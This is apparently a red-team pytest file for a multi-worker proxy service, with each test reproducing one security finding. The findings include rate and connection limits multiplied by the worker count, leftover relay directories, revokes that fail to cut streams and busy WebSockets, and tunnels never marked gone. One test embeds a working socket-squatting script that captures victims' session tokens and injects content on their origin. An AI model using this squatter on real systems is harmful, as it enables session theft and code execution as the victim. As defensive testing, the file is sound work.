"""Red team: what `--workers N` promises, attacked with real satellite processes.

Each test here is written so that it FAILS while the attack succeeds (a finding); see the docstrings for the
exact reproduction. Helpers come from tests/test_workers.py (real supervisor + N workers, test CA).
"""
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from conftest import DOMAIN, ROOT, wait_for
from test_workers import (access_pids, access_size, fresh_get, gone, session_host, start, token_header,
                          wait_for_workers)



# F1: a configured limit below the worker count is multiplied by the worker count -------------------------

def test_a_token_failure_limit_below_the_worker_count_holds_across_workers(certs, tmp_path):
    """Anonymous client. `--workers 3 --token-failures 2/1m`: each worker takes worker_share(2, 3) =
    max(1, 2 // 3) = 1, so three workers together let 3 wrong tokens through per address and session, not
    the configured 2. With the defaults (token-failures 20/1m, workers = one per core, up to 64) a proxy
    node with more than 20 cores allows up to 64 wrong tokens a minute: the configured count is silently
    raised to the worker count. README says 'as long as it is at least N' but nothing refuses or warns.
    Repro: satellite serve --workers 3 --token-failures 2/1m ...; 30 fresh connections with
    'Authorization: token wrong' to a live session: 3 answers 403 (counted guesses), the rest 429."""
    server = start(certs, tmp_path / "sat", 3, "--token-failures", "2/1m")
    try:
        pids = wait_for_workers(server, 3)
        link = server.getlink()
        host = session_host(link)
        since = access_size(server)
        statuses = []
        for _ in range(60):                               # bounded; fresh connections land on any worker
            statuses.append(fresh_get(server, host, "/", {"Authorization": "token wrong"})[0])
            if statuses.count(403) > 2 or (statuses.count(429) >= 30 and len(set(access_pids(server, since))) == 3):
                break
        assert set(access_pids(server, since)) <= set(pids)
        assert statuses.count(403) <= 2, (f"{statuses.count(403)} wrong tokens were tried (and counted as guesses) "
                                          f"with token-failures 2/1m: {statuses}")
    finally:
        server.stop()


def test_a_getlink_rate_below_the_worker_count_holds_across_workers(certs, tmp_path):
    """A login-node user. `--workers 3 --getlink-rate 1/1m`: every worker allows 1 link a minute per
    address, so the address gets 3 links a minute (the worker count), not 1. Same for the MUNGE check
    limiter (getlink-rate x 5 / N). Repro: satellite serve --workers 3 --getlink-rate 1/1m
    --max-live-per-source 0; GET /api/getlink on fresh connections: up to 3 answers 201 within a minute."""
    server = start(certs, tmp_path / "sat", 3, "--getlink-rate", "1/1m", "--max-live-per-source", "0")
    try:
        wait_for_workers(server, 3)
        answers = []
        for _ in range(60):
            answers.append(server.api("getlink")[0])
            if answers.count(201) > 1 or answers.count(429) >= 40:
                break
        assert answers.count(201) <= 1, f"getlink-rate 1/1m issued {answers.count(201)} links: {answers}"
    finally:
        server.stop()


def test_a_per_address_connection_cap_below_the_worker_count_holds_across_workers(certs, tmp_path):
    """Anonymous client. `--workers 3 --max-connections-per-address 2`: each worker lets an address hold
    max(1, 2 // 3) = 1 connection, so one address holds 3 idle (header-less) connections, above its cap of
    2. Repro: open plain TCP connections from 127.0.0.9, keep them silent; a connection beyond the
    worker's share is closed at once (read returns b''), the others stay open until header-timeout."""
    server = start(certs, tmp_path / "sat", 3, "--max-connections-per-address", "2", "--header-timeout", "20")
    held = []
    try:
        wait_for_workers(server, 3)
        for _ in range(30):
            sock = socket.create_connection(("127.0.0.1", server.port), 5, ("127.0.0.9", 0))
            sock.settimeout(0.3)
            try:
                closed = sock.recv(1) == b""
            except socket.timeout:
                closed = False
            except ConnectionError:
                closed = True
            if closed:
                sock.close()
            else:
                held.append(sock)
            if len(held) > 2:
                break
        assert len(held) <= 2, f"one address holds {len(held)} connections with max-connections-per-address 2"
    finally:
        for sock in held:
            sock.close()
        server.stop()


# F3: the temporary relay directory outlives a supervisor killed with SIGKILL -----------------------------

def long_workdir(tmp_path):
    """A database path too long for a socket name beside it: satellite then uses a temporary directory."""
    path = tmp_path / ("d" * 90)
    assert len(str(path / "satellite.tunnels")) > 107 - len("/0123456789abcdef.sock.4194304")
    return path


def satellite_tunnel_dirs():
    return {p for p in Path(tempfile.gettempdir()).glob("satellite-tunnels-*") if p.stat().st_uid == os.getuid()}


def test_a_killed_supervisor_leaves_no_temporary_relay_directory(certs, tmp_path, new_app):
    """kill -9 of the supervisor (OOM killer, systemd's SIGKILL after TimeoutStopSec, an admin): the workers stop
    (watch_parent), but the private temporary relay directory (used when the database's path is too long for a
    socket name) and the relay sockets of tunnels attached at that moment stay in /tmp forever; every start makes
    a new one, so a crash-looping service (Restart=always) fills /tmp with satellite-tunnels-* directories.
    Repro: satellite serve --workers 2 --db <a path longer than ~60 bytes>/satellite.db ...; attach a tunnel;
    kill -9 <supervisor>; ls /tmp/satellite-tunnels-*/ shows the directory and <sha256(alias)[:16]>.sock."""
    import hashlib
    server = start(certs, long_workdir(tmp_path), 2)
    ours = None
    try:
        pids = wait_for_workers(server, 2)
        app = new_app()
        link = server.getlink()
        attach_tunnel_here(server, link["key"], app)
        name = hashlib.sha256(link["alias"].encode()).hexdigest()[:16] + ".sock"
        ours = wait_for(lambda: next((p for p in satellite_tunnel_dirs() if (p / name).exists()), None),
                        what="our temporary relay directory")      # the fallback is in use (ours: our alias)
        server.proc.kill()
        server.proc.wait(10)
        wait_for(lambda: all(gone(pid) for pid in pids), what="the orphaned workers to stop")
        time.sleep(1)
        assert not ours.exists(), f"left behind after the supervisor's SIGKILL: {ours}: {os.listdir(ours)}"
    finally:
        server.stop()
        if ours is not None:
            subprocess.run(["rm", "-rf", str(ours)], check=False)


# F2: the relay directory is used whoever owns it: a local user who made it serves other sessions' pages --------

SQUATTER = r'''
import os, socket, sys, threading, time
relays, seen_path, until = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
mine = {}

def answer(listener):
    while True:
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(5)
        try:
            head = b""
            while b"\r\n\r\n" not in head and len(head) < 65536:
                data = conn.recv(65536)
                if not data:
                    break
                head += data
            with open(seen_path, "ab") as seen:
                seen.write(head + b"\n----\n")
            body = b"<script>/* nobody's page, on the victim's origin */</script>ATTACKER\n"
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s"
                         % (len(body), body))
        except OSError:
            pass
        finally:
            conn.close()

while time.monotonic() < until:
    for name in os.listdir(relays):
        path = os.path.join(relays, name)
        if not name.endswith(".sock") or name in mine:
            continue
        try:
            os.unlink(path)              # satellite's socket: we own the directory, so we may remove it
        except OSError:
            continue
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(path)
        os.chmod(path, 0o777)
        listener.listen(64)
        mine[name] = listener
        threading.Thread(target=answer, args=(listener,), daemon=True).start()
    time.sleep(0.02)
'''


def as_nobody(*command, **kwargs):
    return subprocess.run(["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups", *command],
                          capture_output=True, text=True, timeout=kwargs.pop("timeout", 30), **kwargs)


@pytest.fixture
def shared_dir():
    """A directory every local user may create entries in (sticky, like /tmp): where `satellite serve` keeps its
    database when run from such a directory with the default `db = satellite.db`, or a site's shared state dir."""
    path = Path(tempfile.mkdtemp(prefix="rw-shared-", dir="/tmp"))
    os.chmod(path, 0o1777)
    yield path
    subprocess.run(["rm", "-rf", str(path)], check=False)


def test_a_relay_directory_made_by_another_local_user_is_not_used(certs, shared_dir, new_app):
    """Local unprivileged user (nobody) + a user with a valid link. The database is in a directory other users may
    create names in (a sticky /tmp-like directory; e.g. `satellite serve --workers 2` with the default
    `db = satellite.db` started in /tmp). Before satellite starts, nobody runs `mkdir -m 0777 satellite.tunnels`
    there. relay_directory() only does makedirs(exist_ok=True) + chmod(0700): it never checks the owner. As root
    the chmod succeeds and satellite uses nobody's directory (still owned by nobody, who keeps rwx on it); as any
    other user the chmod raises PermissionError and `serve` dies with a traceback (a denial of service).
    nobody then replaces each tunnel's relay socket (<sha256(alias)[:16]>.sock) with one of its own: every
    request for a tunneled session that lands on a worker other than the tunnel's goes to nobody, who reads the
    victim's request (path, app cookies, bodies, and the session token itself: the link's first visit
    '/?token=...' and 'Authorization: token ...' are passed on as they came, so nobody then holds the whole
    session, from anywhere) and answers it on the victim's origin (any script it likes,
    e.g. one that drives the victim's Jupyter with the victim's own cookie: code execution as the victim).
    Repro: install -d -m 1777 /srv/shared; (as nobody) mkdir -m 0777 /srv/shared/satellite.tunnels;
    satellite serve --workers 2 --db /srv/shared/satellite.db ...; a job attaches its tunnel; nobody runs the
    squatter loop above; the victim's browser gets 'ATTACKER' for about half its requests and nobody's log has the token."""
    made = as_nobody("mkdir", "-m", "0777", str(shared_dir / "satellite.tunnels"))
    assert made.returncode == 0, made.stderr
    (shared_dir / "squatter.py").write_text(SQUATTER)
    os.chmod(shared_dir / "squatter.py", 0o644)
    seen = shared_dir / "seen.txt"
    server = start(certs, shared_dir / "sat", 2, "--db", str(shared_dir / "satellite.db"))
    squatter = None
    try:
        wait_for_workers(server, 2)
        app = new_app()
        link = server.getlink()
        attach_tunnel_here(server, link["key"], app)
        relays = shared_dir / "satellite.tunnels"
        wait_for(lambda: list(relays.glob("*.sock")), what="the relay socket")
        squatter = subprocess.Popen(["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups",
                                     "/usr/bin/python3", str(shared_dir / "squatter.py"), str(relays), str(seen), "40"],
                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        host = session_host(link)
        bodies = []
        for _ in range(40):                        # the victim, with its valid token, on fresh connections
            status, body = fresh_get(server, host, f"/?token={link['token']}")     # the link, as a browser opens it
            bodies.append(body)
            if b"ATTACKER" in body:
                break
            time.sleep(0.05)
        stolen = seen.read_text() if seen.exists() else ""
        assert not any(b"ATTACKER" in body for body in bodies), (
            f"nobody answered the victim's request on its session's origin; nobody saw: {stolen!r}; relay dir owner "
            f"uid {relays.stat().st_uid}, mode {oct(relays.stat().st_mode & 0o7777)}")
    finally:
        if squatter is not None:
            squatter.kill()          # our own child (setpriv execs python): its pid
            squatter.wait(10)
        server.stop()


def attach_tunnel_here(server, key, app, attach=1):
    from test_workers import attach_tunnel
    return attach_tunnel(server, key, app, attach)


def test_a_relay_directory_made_by_another_local_user_does_not_stop_the_service(certs, shared_dir):
    """The same pre-made `satellite.tunnels` (nobody's, 0777) when satellite runs as its own non-root user, as the
    systemd unit does (here the real user `daemon`): os.chmod(path, 0o700) raises PermissionError in
    Supervisor.__init__ and `satellite serve --workers 2` exits 1 with a traceback, every time it is started: any
    local user who can create one name beside the database keeps the service down (no named error, no refusal
    of the foreign directory with a way out). workers = 1 starts fine, so it is the workers' directory alone.
    Repro: install -d -m 1777 /srv/shared; (as nobody) mkdir -m 0777 /srv/shared/satellite.tunnels;
    (as the service user) satellite serve --workers 2 --db /srv/shared/satellite.db ... -> PermissionError."""
    for name in ("cert.pem", "key.pem", "ca.pem"):
        (shared_dir / name).write_bytes((certs / name).read_bytes())
        os.chmod(shared_dir / name, 0o644)
    (shared_dir / "satellite.py").write_bytes((ROOT / "satellite.py").read_bytes())
    os.chmod(shared_dir / "satellite.py", 0o644)
    made = as_nobody("mkdir", "-m", "0777", str(shared_dir / "satellite.tunnels"))
    assert made.returncode == 0, made.stderr
    log = shared_dir / "serve.log"
    with open(log, "w") as out:
        proc = subprocess.Popen(["setpriv", "--reuid", "daemon", "--regid", "daemon", "--clear-groups",
                                 "/usr/bin/python3", str(shared_dir / "satellite.py"), "serve", "--domain", DOMAIN,
                                 "--workers", "2", "--listen", "127.0.0.1:0", "--cert", str(shared_dir / "cert.pem"),
                                 "--key", str(shared_dir / "key.pem"), "--db", str(shared_dir / "satellite.db"),
                                 "--issue-from", "127.0.0.1/32", "--redeem-from", "127.0.0.2/31"],
                                stdout=out, stderr=out, cwd=shared_dir)
    try:
        wait_for(lambda: proc.poll() is not None or "worker 1 started" in log.read_text(), timeout=30,
                 what="satellite to start its workers or exit")
        assert proc.poll() is None, f"satellite serve exited {proc.returncode}:\n{log.read_text()[-600:]}"
    finally:
        if proc.poll() is None:
            proc.terminate()                  # our own child: the supervisor, which stops its workers
            proc.wait(20)


# F4: a revoked session keeps streaming to its client through whichever worker relays the response ----------------

def test_a_revoke_cuts_a_streamed_response_like_a_websocket(certs, tmp_path, new_app):
    """A user with a valid link (or whoever stole it: the reason for a revoke). `satellite revoke` cuts
    WebSockets within 5 s (relay_websocket asks still_open()), but a streamed HTTP response (server-sent events,
    a long or endless download, a long-poll) is relayed to the end by copy_chunked/copy_until_close, which never
    look at the session again: the revoked client keeps receiving the app's data for as long as the app sends it.
    Same with workers = 1; with workers the stream is held by any worker, none of which asks. (Tunnel mode is
    cut, because the tunnel itself closes within 5 s.) Repro: a mapped session whose app streams events
    (tests/apps/echo_app.py /events); GET /events?n=100 with the token; satellite revoke ALIAS; the client still
    reads a new event every second 15 s later."""
    server = start(certs, tmp_path / "sat", 2)
    try:
        wait_for_workers(server, 2)
        app = new_app()
        link = server.mapped_session(app)
        conn = server.connection(session_host(link), timeout=10)
        conn.request("GET", "/events?n=100", headers=token_header(link))
        resp = conn.getresponse()
        assert resp.status == 200

        def next_event():
            line = resp.fp.readline()
            while line and not line.startswith(b"data"):
                line = resp.fp.readline()
            return line
        assert next_event() == b"data: event 0\n"
        revoke = subprocess.run([sys.executable, str(ROOT / "satellite.py"), "revoke", "--db", str(server.db),
                                 link["alias"]], capture_output=True, text=True, timeout=60)
        assert revoke.returncode == 0, revoke.stderr
        assert fresh_get(server, session_host(link), "/", token_header(link))[0] == 410     # the link itself is cut
        revoked_at, received = time.monotonic(), []
        try:
            for _ in range(15):                  # bounded: 15 events, one a second
                time.sleep(1)
                app.direct("/next")
                event = next_event()
                if not event:
                    break
                received.append((round(time.monotonic() - revoked_at), event))
        except (OSError, ConnectionError):
            pass
        late = [(t, e) for t, e in received if t > 8]
        assert not late, f"the revoked session still streamed to its client: {late[-3:]} (seconds after revoke)"
        conn.close()
    finally:
        server.stop()


# F5: a tunnel that died with its worker is never counted as gone ------------------------------------------------

def test_a_tunnel_lost_with_a_killed_worker_is_ended_by_refresh_after_dead_after(certs, tmp_path, new_app):
    """A job in tunnel mode, and anything that kills a worker (the OOM killer picks the biggest process: the
    worker holding the big tunnels; an admin's kill -9). A tunnel's absence is recorded only by the worker when
    the tunnel detaches (set_backend_gone) or by `serve` at start (mark_tunnels_down); the supervisor restarts a
    killed worker without either, so the session's backend_gone stays NULL and refresh treats the tunnel as up
    forever: the session is never ended after dead-after ('tunnel gone'), keeps counting against the live quotas
    and shows 'reconnecting' until its lifetime ends (with workers = 1 the restart marks it). Repro: --workers 2;
    attach a tunnel; kill -9 the worker whose log line says 'tunnel of ALIAS attached'; the agent cannot come
    back (its node is gone); `satellite refresh --dead-after 1s` any number of times: the session stays live."""
    server = start(certs, tmp_path / "sat", 2)
    try:
        pids = wait_for_workers(server, 2)
        app = new_app()
        link = server.getlink()
        log_start = len(server.log_text())
        tunnel = attach_tunnel_here(server, link["key"], app)
        owner = int(wait_for(lambda: re.search(rf"tunnel of {link['alias']} attached from \S+ \[pid (\d+)\]",
                                               server.log_text()[log_start:]), what="the attach").group(1))
        assert owner in pids
        tunnel.connect_app = None            # the agent's node is gone: it will not reconnect (we never re-attach)
        os.kill(owner, signal.SIGKILL)       # a worker we started (our satellite's child)
        wait_for_workers(server, 2, other_than=[owner])
        wait_for(lambda: tunnel.closed, what="the agent's end to notice")
        states = []
        for _ in range(4):                   # refresh, as cron would, well past dead-after
            time.sleep(1)
            done = subprocess.run([sys.executable, str(ROOT / "satellite.py"), "refresh", "--db", str(server.db),
                                   "--dead-after", "1s"], capture_output=True, text=True, timeout=60)
            assert done.returncode == 0, done.stderr
            row = [r for r in rows_of(server) if r["alias"] == link["alias"]][0]
            states.append((row["state"], row["backend_gone"]))
            if row["state"] == "ended":
                break
        assert states[-1][0] == "ended", f"the session whose tunnel died with worker {owner} stays live: {states}"
    finally:
        server.stop()


def rows_of(server):
    import sqlite3
    with sqlite3.connect(server.db) as db:
        db.row_factory = sqlite3.Row
        return [dict(row) for row in db.execute("SELECT * FROM sessions")]


# F6: a revoked WebSocket that is never silent for 5 s is never cut ---------------------------------------------

def test_a_revoke_cuts_a_busy_websocket(certs, tmp_path, new_app):
    """A user with a valid link (the one a revoke is aimed at: a stolen link, a user being removed). relay_websocket
    asks still_open() only after check_every (5 s) of *silence* (poll() timing out); a WebSocket that carries a
    frame at least every 5 s (the client sends a ping or a keystroke every second, a kernel or terminal that
    streams output, any app heartbeat) never reaches that branch, so `satellite revoke` (and release, expiry, a
    job's end) never cuts it, in whichever worker relays it; the link itself answers 410. Same with workers = 1;
    tunnel mode is cut (the tunnel closes). test_a_revoke_cuts_websockets_held_by_every_worker only tries idle
    sockets. Repro: a mapped session with a WebSocket echo app; open wss://ALIAS.../ws with the token; satellite
    revoke ALIAS; send a message every second: every one is echoed, 15 s and more after the revoke."""
    import websocket
    server = start(certs, tmp_path / "sat", 2)
    try:
        wait_for_workers(server, 2)
        app = new_app()
        link = server.mapped_session(app)
        host = session_host(link)
        ws = websocket.create_connection(f"wss://{host}:{server.port}/ws", socket=server.tls_socket(host),
                                         header=[f"Authorization: token {link['token']}"], timeout=10)
        ws.send("before")
        assert ws.recv() == "before"
        revoke = subprocess.run([sys.executable, str(ROOT / "satellite.py"), "revoke", "--db", str(server.db),
                                 link["alias"]], capture_output=True, text=True, timeout=60)
        assert revoke.returncode == 0, revoke.stderr
        assert fresh_get(server, host, "/", token_header(link))[0] == 410
        revoked_at, echoed = time.monotonic(), []
        try:
            for i in range(15):                   # bounded: one message a second for 15 s
                time.sleep(1)
                ws.send(f"after {i}")
                if ws.recv() != f"after {i}":
                    break
                echoed.append(round(time.monotonic() - revoked_at))
        except (websocket.WebSocketException, OSError, ConnectionError):
            pass
        late = [t for t in echoed if t > 8]
        assert not late, f"the revoked session's WebSocket still relays {len(echoed)} s after the revoke: {echoed}"
        ws.close()
    finally:
        server.stop()
